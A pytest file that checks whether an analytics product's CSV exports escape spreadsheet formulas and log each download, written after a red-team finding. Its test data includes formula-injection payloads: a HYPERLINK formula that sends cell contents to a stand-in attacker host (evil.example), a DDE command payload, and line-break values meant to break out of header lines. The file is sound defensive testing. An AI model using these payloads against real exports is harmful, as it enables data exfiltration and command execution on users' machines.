"""Every CSV download escapes spreadsheet formulas - in cells, column names and the '#' header lines - and is
audited. The red team's payload: `/matrix?q=x%22%0A%3DHYPERLINK(...)` broke out of the matrix CSV's
'# Filters:' line into a formula row, and the matrix download wrote no audit entry.

Each export is read back with Python's csv module (as a spreadsheet would split it) and every cell is checked.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest

from analytics.access.markings import Marking
from analytics.export import table as table_export
from analytics.filters import Filters
from analytics.matrix import queries as matrix
from analytics.matrix import taxonomy
from analytics.sources import source_credits
from tests.analytics.matrix.test_matrix import seed
from tests.conftest import TODAY, UK_ANALYST, StoreBuilder

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
# search text and filter values that try to leave the header line, open a quoted cell, or start a cell
PAYLOADS = [
    f'x"\n{HYPERLINK}',
    f"x\r\n{HYPERLINK}",
    f"x\r{HYPERLINK}",
    f"x, {HYPERLINK}",
    "x;+cmd|' /C calc'!A0",
    "x,\t@SUM(1+1)",
    "x, -2+3",
]
MARK = Marking("AMBER", ("UK",))


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8").lstrip("\ufeff"), newline="")))


def _assert_inert(data: bytes, header_lines: int) -> None:
    text = data.decode("utf-8")
    lines = text.split("\n")
    comments = [ln for ln in lines if ln.startswith("#")]
    assert len(comments) == header_lines, comments  # no payload started a line of its own
    assert all(lines[k].startswith("#") for k in range(header_lines))
    for row in _cells(data):
        for cell in row:
            if _number(cell):
                continue
            assert not cell.lstrip(" ").startswith(PREFIXES), f"formula cell {cell!r}"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _planted(store: StoreBuilder) -> None:
    seed(store)
    for k, p in enumerate(PREFIXES):
        store.incident(
            title=f"{p}cmd title {k}",
            summary=f"{p}SUM(A1) summary",
            affected_system=f"{p}system",
            tlp="GREEN",
        )


def _exports_entries(store: StoreBuilder) -> list[tuple[str, str]]:
    return store.cursor().execute("select action, object from audit_log where action = 'export'").fetchall()


def explorer(store: StoreBuilder, f: Filters) -> tuple[bytes, int]:
    return table_export.incidents_csv(store.store, UK_ANALYST, f, TODAY, "Date", True, at_least=MARK), 1


def matrix_csv(store: StoreBuilder, f: Filters) -> tuple[bytes, int]:
    data = matrix.recompute(store.cursor(), UK_ANALYST, f, TODAY)
    techs = taxonomy.techniques(store.cursor())
    names = {
        t: f"{PREFIXES[k % len(PREFIXES)]}{n}"
        for k, (t, n) in enumerate(zip(techs["id"], techs["name"], strict=True))
    }
    out = table_export.matrix_csv(
        store.store, UK_ANALYST, data.data, names, data.marking, f, TODAY, "incidents"
    )
    return out, 2 + bool(source_credits(data.marking))


# Every CSV download of the product: the explorer's table and the threat matrix. (The Data page's rejected-rows
# file and the STIX bundle (JSON) are reported separately; see tests/analytics/ingest/test_ingest_tabular.py.)
EXPORTS: dict[str, tuple[Callable[[StoreBuilder, Filters], tuple[bytes, int]], str]] = {
    "explorer": (explorer, "table:incidents"),
    "matrix": (matrix_csv, "matrix:incidents"),
}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_csv_export_escapes_formulas_everywhere_and_is_audited(
    name: str, payload: str, store: StoreBuilder
) -> None:
    _planted(store)
    build, obj = EXPORTS[name]
    # the payload rides in the search text and in a filter value that matches nothing (so the rows still show)
    f = Filters(text=payload) if name == "matrix" else Filters(sectors=(payload,))
    data, header_lines = build(store, f)
    _assert_inert(data, header_lines)
    assert _exports_entries(store) == [("export", obj)]


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_stored_formulas_in_every_cell_are_escaped(name: str, store: StoreBuilder) -> None:
    _planted(store)
    build, _ = EXPORTS[name]
    data, header_lines = build(store, Filters())
    _assert_inert(data, header_lines)
    cells = {cell for row in _cells(data) for cell in row}
    if name == "explorer":  # the planted titles are there, escaped, not dropped
        # (a CR is kept as a line feed, inside a quoted cell, so it cannot end the row)
        expected = {f"'{p}cmd title {k}".replace("\r", "\n") for k, p in enumerate(PREFIXES)}
        assert expected <= cells
    else:  # technique names carrying each prefix
        assert any(c.startswith("'=") for c in cells) and any(c.startswith("'@") for c in cells)


def test_matrix_filters_line_cannot_break_out(store: StoreBuilder) -> None:
    """The red team's exact URL: the '# Filters:' line stays one line and no cell becomes a formula."""
    payload = 'x"\n=HYPERLINK("http://evil.example","click")'
    f = Filters(text=payload)
    empty = matrix.MatrixData(cells=_empty_cells(), incidents=0, with_techniques=0, gap_incidents=0)
    data = table_export.matrix_csv(store.store, UK_ANALYST, empty, {}, MARK, f, TODAY, "incidents")
    _assert_inert(data, 2)


def _empty_cells() -> Any:
    import pandas as pd

    return pd.DataFrame(
        {
            "technique_id": pd.Series([], dtype=str),
            "parent_id": pd.Series([], dtype=object),
            "incidents": pd.Series([], dtype=int),
            "uk": pd.Series([], dtype=int),
            "au": pd.Series([], dtype=int),
            "benchmarks": pd.Series([], dtype=object),
            "gap_incidents": pd.Series([], dtype=int),
            "covered": pd.Series([], dtype=bool),
        }
    )


@pytest.mark.parametrize("prefix", PREFIXES)
def test_comment_lines_escape_each_prefix_after_a_separator(prefix: str) -> None:
    line = table_export.comment_line(f'Filters: a,{prefix}x; {prefix}y\n{prefix}z "q"')
    assert "\n" not in line and "\r" not in line and '"' not in line
    if prefix.strip():  # a tab or CR is turned into a space (one line, no cell break); the others are escaped
        assert line.startswith(f"# Filters: a,'{prefix}x; '{prefix}y ")
    for sep in ",;":  # where a spreadsheet (in any locale) starts a new cell
        cells = line.split(sep)
        assert all(not c.lstrip(" ").startswith(PREFIXES) for c in cells), cells
